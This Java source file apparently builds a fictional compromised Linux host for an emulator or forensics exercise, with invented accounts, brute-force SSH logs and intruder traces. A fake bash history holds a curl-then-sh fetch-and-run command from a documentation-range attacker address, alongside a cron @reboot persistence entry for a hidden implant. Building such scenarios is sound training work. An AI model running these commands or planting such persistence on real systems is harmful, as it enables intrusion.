package io.varve.emulator.device;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;

/// Writes a small Linux host as a file tree: accounts, logs, histories, keys, schedules, and traces of an intruder, all
/// invented. Programs come from this machine.
final class LinuxTree {
    /// What a device sees of this machine, read-only.
    static final List<String> SYSTEM =
            List.of("/usr", "/bin", "/sbin", "/lib", "/lib64", "/etc/alternatives", "/etc/ld.so.cache");

    /// The program the intruder left running.
    static final String IMPLANT = "/opt/.cache/updaterd";

    /// An address of the documentation ranges, in the logs and in the implant's command line.
    static final String ATTACKER = "203.0.113.77";

    private static final int LOG_LINES = 200;
    private static final DateTimeFormatter SYSLOG =
            DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter ISO = DateTimeFormatter.ofPattern(
                    "yyyy-MM-dd'T'HH:mm:ss.SSSSSSxxx", Locale.ROOT)
            .withZone(ZoneOffset.UTC);

    private final Path tree;
    private final DeviceFacts facts;

    private LinuxTree(Path tree, DeviceFacts facts) {
        this.tree = tree;
        this.facts = facts;
    }

    static void write(Path tree, DeviceFacts facts) throws IOException {
        var linux = new LinuxTree(tree, facts);
        linux.system();
        linux.identity();
        linux.homes();
        linux.logs();
        linux.intruder();
    }

    private void system() throws IOException {
        for (String folder : List.of(
                "usr", "proc", "dev", "etc/alternatives", "run", "tmp", "var/tmp", "var/log", "opt", "srv", "mnt")) {
            Files.createDirectories(tree.resolve(folder));
        }
        Files.writeString(tree.resolve("etc/ld.so.cache"), "");
        for (String name : List.of("bin", "sbin", "lib", "lib64")) {
            Path real = Path.of("/" + name);
            if (Files.isSymbolicLink(real)) {
                Files.createSymbolicLink(tree.resolve(name), Files.readSymbolicLink(real));
            } else if (Files.exists(real)) {
                Files.createDirectories(tree.resolve(name));
            }
        }
    }

    private void identity() throws IOException {
        file("etc/hostname", facts.hostname() + "\n");
        file("etc/hosts", "127.0.0.1 localhost\n" + facts.localIp() + " " + facts.hostname() + "\n");
        file("etc/machine-id", facts.machineId() + "\n");
        file("etc/timezone", "Etc/UTC\n");
        Files.createSymbolicLink(tree.resolve("etc/localtime"), Path.of("/usr/share/zoneinfo/Etc/UTC"));
        file("etc/debian_version", "12.8\n");
        file("etc/os-release", """
                PRETTY_NAME="%1$s %2$s (bookworm)"
                NAME="%1$s"
                VERSION_ID="%2$s"
                ID=debian
                """.formatted(facts.osName(), facts.osVersion()));
        file("etc/passwd", """
                root:x:0:0:root:/root:/bin/bash
                daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
                sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
                alice:x:1000:1000:Alice Example:/home/alice:/bin/bash
                """);
        file("etc/group", "root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n");
        file("etc/shadow", "root:!:19700:0:99999:7:::\nalice:!:19700:0:99999:7:::\n");
        file("etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n");
        file("etc/nsswitch.conf", "passwd: files\ngroup: files\nhosts: files\n");
        file("etc/fstab", "/dev/vda1 / ext4 defaults 0 1\n");
        file("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
        file("etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication yes\n");
        file("etc/systemd/system/backup.service", """
                [Unit]
                Description=Nightly backup
                [Service]
                ExecStart=/usr/local/sbin/backup
                [Install]
                WantedBy=multi-user.target
                """);
    }

    private void homes() throws IOException {
        long at = facts.bornAt().minus(Duration.ofMinutes(30)).getEpochSecond();
        file("root/.bash_history", "#%d\napt-get update\n#%d\nsystemctl status ssh\n".formatted(at - 7200, at - 7100));
        file("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInventedKeyOfTheAdministrator admin\n");
        file("home/alice/.bash_history", """
                #%d
                curl -fsS http://%s/u.sh -o /tmp/u.sh
                #%d
                sh /tmp/u.sh
                """.formatted(at, ATTACKER, at + 12));
        file("home/alice/.bashrc", "export EDITOR=vi\n");
        file("home/alice/.ssh/known_hosts", "192.0.2.200 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInventedHostKey\n");
        file("home/alice/notes.txt", "quarterly numbers are in the usual place\n");
    }

    private void logs() throws IOException {
        Instant start = facts.bornAt().minus(Duration.ofHours(2));
        file(
                "var/log/auth.log",
                String.join(
                                "",
                                IntStream.range(0, 40)
                                        .mapToObj(i -> auth(
                                                start.plusSeconds(10L * i),
                                                "Failed password for alice from " + ATTACKER + " port " + (40000 + i)
                                                        + " ssh2"))
                                        .toList())
                        + auth(
                                start.plusSeconds(420),
                                "Accepted password for alice from " + ATTACKER + " port 40041 ssh2")
                        + auth(
                                start.plusSeconds(421),
                                "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)"));
        Duration step = Duration.ofHours(2).dividedBy(LOG_LINES);
        var syslog = new StringBuilder();
        for (int i = 0; i < LOG_LINES; i++) {
            syslog.append("%s %s app[77]: request %04d served\n"
                    .formatted(ISO.format(start.plus(step.multipliedBy(i))), facts.hostname(), i));
        }
        file("var/log/syslog", syslog.toString());
        file(
                "var/log/dpkg.log",
                "%s status installed openssh-server:amd64 1:9.2p1-2\n"
                        .formatted(DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss", Locale.ROOT)
                                .withZone(ZoneOffset.UTC)
                                .format(start.minus(Duration.ofDays(30)))));
    }

    private String auth(Instant at, String text) {
        return "%s %s sshd[4711]: %s\n".formatted(SYSLOG.format(at), facts.hostname(), text);
    }

    private void intruder() throws IOException {
        Path implant = file(IMPLANT.substring(1), "#!/bin/sh\nwhile sleep 3600; do :; done\n");
        Files.setPosixFilePermissions(implant, PosixFilePermissions.fromString("rwxr-xr-x"));
        file("etc/cron.d/updaterd", "@reboot root " + IMPLANT + " --pool " + ATTACKER + ":3333\n");
        file("tmp/u.sh", "#!/bin/sh\nmkdir -p /opt/.cache && cp /tmp/updaterd /opt/.cache/\n");
        FileTime then = FileTime.from(facts.bornAt().minus(Duration.ofMinutes(29)));
        Files.setLastModifiedTime(implant, then);
        Files.setLastModifiedTime(tree.resolve("tmp/u.sh"), then);
    }

    private Path file(String path, String text) throws IOException {
        Path file = tree.resolve(path);
        Files.createDirectories(file.getParent());
        return Files.writeString(file, text);
    }
}
